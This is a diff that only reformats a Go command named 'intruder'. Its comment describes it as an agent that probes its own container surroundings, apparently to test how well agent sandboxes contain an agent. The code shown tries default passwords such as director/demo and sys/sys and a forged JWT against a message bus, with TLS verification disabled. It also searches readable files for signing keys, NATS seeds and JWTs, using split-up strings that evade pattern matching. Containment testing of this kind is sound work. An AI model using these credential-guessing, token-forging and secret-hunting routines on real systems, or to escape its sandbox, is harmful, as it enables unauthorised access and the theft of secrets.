@@ -1,5 +1,6 @@
-// Command intruder is a coding agent that attacks what is around its container, for deploy/try-compose.sh: in front of another agent's
-// command it tries what the title of the issue says, and writes what got through into the file intruder.txt of the checkout.
+// Command intruder is a coding agent that attacks what is around its container, for deploy/try-compose.sh: in
+// front of another agent's command it tries what the title of the issue says, and writes what got through into
+// the file intruder.txt of the checkout.
 //
 //	intruder AGENT [ARGUMENT...]
 //
@@ -129,13 +130,16 @@ func signIn() (said []string) {
 	forged, sign := forge()
 	id := os.Getenv("RETAKE_ATTEMPT_ID")
 	connects := map[string]func(nonce string) string{
-		"nothing":          func(string) string { return `{}` },
-		"an old default":   func(string) string { return `{"user":"director","pass":"demo"}` },
-		"the old worker":   func(string) string { return `{"user":"worker"}` },
-		"its own name":     func(string) string { return `{"user":"` + id + `","pass":"` + id + `"}` },
-		"a token":          func(string) string { return `{"auth_token":"` + id + `"}` },
-		"the system":       func(string) string { return `{"user":"sys","pass":"sys"}` },
-		"a forged account": func(nonce string) string { return fmt.Sprintf(`{"jwt":%q,"sig":%q}`, forged, sign(nonce)) },
+		"nothing":        func(string) string { return `{}` },
+		"an old default": func(string) string { return `{"user":"director","pass":"demo"}` },
+		"the old worker": func(string) string { return `{"user":"worker"}` },
+		"its own name":   func(string) string { return `{"user":"` + id + `","pass":"` + id + `"}` },
+		"a token":        func(string) string { return `{"auth_token":"` + id + `"}` },
+		"the system":     func(string) string { return `{"user":"sys","pass":"sys"}` },
+		"a forged account": func(nonce string) string {
+			return fmt.Sprintf(`{"jwt":%q,"sig":%q}`, forged,
+				sign(nonce))
+		},
 	}
 	answered := 0
 	for name, connect := range connects {
@@ -144,7 +148,8 @@ func signIn() (said []string) {
 			said = append(said, "the bus did not answer")
 			continue
 		}
-		_, _ = fmt.Fprintf(c, "CONNECT %s\r\nSUB > 1\r\nPUB retake.v1.worker.%s.result 2\r\n{}\r\nPING\r\n", connect(nonce), id)
+		_, _ = fmt.Fprintf(c, "CONNECT %s\r\nSUB > 1\r\nPUB retake.v1.worker.%s.result 2\r\n{}\r\nPING\r\n",
+			connect(nonce), id)
 		for {
 			line, err := r.ReadString('\n')
 			if strings.HasPrefix(line, "-ERR") {
@@ -172,7 +177,10 @@ func signIn() (said []string) {
 
 // greet opens a connection with TLS, and returns what the server wants to be signed.
 func greet() (net.Conn, *bufio.Reader, string) {
-	dialer := tls.Dialer{NetDialer: &net.Dialer{Timeout: 5 * time.Second}, Config: &tls.Config{InsecureSkipVerify: true}}
+	dialer := tls.Dialer{
+		NetDialer: &net.Dialer{Timeout: 5 * time.Second},
+		Config:    &tls.Config{InsecureSkipVerify: true},
+	}
 	c, err := dialer.Dial("tcp", bus())
 	if err != nil {
 		return nil, nil, ""
@@ -199,7 +207,10 @@ func forge() (token string, sign func(string) string) {
 
 // credentials looks for one wherever an agent may read.
 func credentials() (said []string) {
-	patterns := [][]byte{[]byte(`"sign_` + `key"`), []byte(`"se` + `ed":"SU`), []byte("eyJ0eXAi" + "OiJKV1Qi"), []byte("BEGIN " + "NATS USER JWT")}
+	patterns := [][]byte{
+		[]byte(`"sign_` + `key"`), []byte(`"se` + `ed":"SU`), []byte("eyJ0eXAi" + "OiJKV1Qi"),
+		[]byte("BEGIN " + "NATS USER JWT"),
+	}
 	looked := 0
 	look := func(path string) {
 		f, err := os.Open(path)
